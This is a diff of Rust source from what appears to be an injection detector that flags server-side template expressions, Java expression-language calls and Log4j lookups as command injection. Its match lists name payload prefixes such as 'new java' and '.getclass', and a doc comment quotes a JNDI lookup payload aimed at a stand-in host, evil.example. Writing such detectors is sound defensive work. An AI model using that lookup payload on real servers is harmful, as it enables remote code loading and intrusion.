@@ -1,28 +1,17 @@
 //! Templates and expression languages that reach for the runtime, look-ups of Log4j, includes of servers.
 
 use super::super::bytes::{
-    eat_any, ends, first, head, is_digit, is_one, is_quote, is_space, is_word, near, places, skip, spaces, split,
-    starts, word, words,
+    eat_any, ends, first, head, is_digit, is_one, is_quote, is_space, is_word, near, skip, spaces, split, starts, word,
 };
-
-pub(super) fn find(text: &[u8]) -> Option<&'static str> {
-    let found = places(text, |byte| matches!(byte, b'{' | b'<' | b'[' | b'(' | b'$' | b'#'))
-        .find_map(|(before, rest)| opening(before, rest));
-    found
-}
 
 /// What a word says of a template; `is_open`: one has begun on its line.
 pub(super) fn receive(before: &[u8], name: &[u8], after: &[u8], is_open: bool) -> Option<&'static str> {
-    if is_open {
-        if let Some(found) = object(before, name, after) {
-            return Some(found);
-        }
-    }
-    at_word(before, name, after)
+    let found = if is_open { object(before, name, after) } else { None };
+    found.or_else(|| at_word(before, name, after))
 }
 
 /// Where a template or an expression opens.
-fn opening(before: &[u8], rest: &[u8]) -> Option<&'static str> {
+pub(super) fn opening(before: &[u8], rest: &[u8]) -> Option<&'static str> {
     if first(rest) == b'<' {
         return erb(rest);
     }
@@ -126,17 +115,12 @@ fn php(before: &[u8], inner: &[u8]) -> Option<&'static str> {
     (print || nested || smarty).then_some("command_injection.script_call")
 }
 
-/// The inside of an expression of Java, up to the end of its line.
+/// The inside of an expression of Java.
 fn expression(before: &[u8], inner: &[u8]) -> Option<&'static str> {
-    let opened = ends(before, &["$", "#", "%", "*", "@"]) || first(inner) == b'(' || true;
-    let line = split(head(inner, 128), |byte| byte != b'\n').0;
-    if !line.contains(&b'(') && !line.contains(&b'.') {
-        return None;
-    }
-    let _ = (opened, is_word(0));
-    let code = spaces(line);
-    starts(code, &["t(java", "new java", "#rt", "(#", "''.getclass", "\"\".getclass"])
-        .then_some("command_injection.java_expression")
+    let opened = ends(before, &["%", "*", "@", "$", "#"]) || first(inner) == b'(' || before.is_empty();
+    let code = spaces(inner);
+    let found = starts(code, &["t(java", "new java", "(#rt", "(#a=", "(#_", "(#c", "''.getclass", "\"\".getclass"]);
+    (opened && found).then_some("command_injection.java_expression")
 }
 
 /// Look-ups of Log4j, plain and nested: `${jndi:ldap://evil.example/a}`.
